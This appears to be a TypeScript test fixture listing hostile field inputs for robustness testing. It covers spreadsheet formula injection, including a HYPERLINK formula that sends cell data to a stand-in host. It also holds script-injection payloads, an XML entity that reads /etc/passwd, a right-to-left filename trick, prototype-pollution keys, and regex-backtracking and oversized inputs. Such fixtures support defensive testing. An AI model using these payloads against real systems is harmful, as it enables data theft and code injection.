/** What somebody may write into a field that comes from outside, by what it would do where it was taken for more than words. */
export const ATTACKS: readonly (readonly [does: string, text: string])[] = [
  ["a formula that calls a program", "=cmd|'/c calc'!A1"],
  ["a formula that sends", '=HYPERLINK("http://a.invalid/?"&A1,"xem")'],
  ["a formula by its plus", "+1+1"],
  ["a formula by its minus", "-1+cmd|' /C calc'!A0"],
  ["a formula of old programs", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a formula behind a tab", "\t=1+1"],
  ["a formula behind a line's end", "\r=1+1"],
  ["a formula in full-width letters", "＝1＋1"],
  ["a picture that runs", `<img src=x onerror="document.title='x'">`],
  ["a script", "</td></tr><script>document.title='x'</script>"],
  ["a drawing that runs", "<svg/onload=document.title='x'>"],
  ["an address that runs", `javascript:alert(1)//" href="javascript:alert(1)`],
  ["a style", "</style><style>*{display:none}</style>"],
  ["words to be put in", "${process.exit(1)} #{1} {{constructor}} [{don_vi}]"],
  ["an entity of XML", "&lt;!ENTITY a SYSTEM 'file:///etc/passwd'>&a;]]>"],
  ["writing from right to left", "\u202eslx.exe\u2066 \u2069"],
  ["letters that no file can hold", "a\u0000b\u0007c\ud800d\uffff"],
  ["a name of every object", "__proto__"],
  ["another", "constructor"],
  ["repetitions in repetitions", `${"(a+)+".repeat(20)}${"a".repeat(400)}!`],
  ["digits without end", `${"1.".repeat(300)}x`],
];

/** For a field of each kind: laying out a million letters takes its time. */
export const MEGABYTE = "hồ sơ ".repeat(170_000);

/** Keys that name something of every object, or make JSON heavy. */
export const HOSTILE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "",
  "=1+1",
  "<b>",
  "x".repeat(100_000),
];

/** JSON of lists within lists. */
export const deepJson = (depth: number): string => `${"[".repeat(depth)}1${"]".repeat(depth)}`;
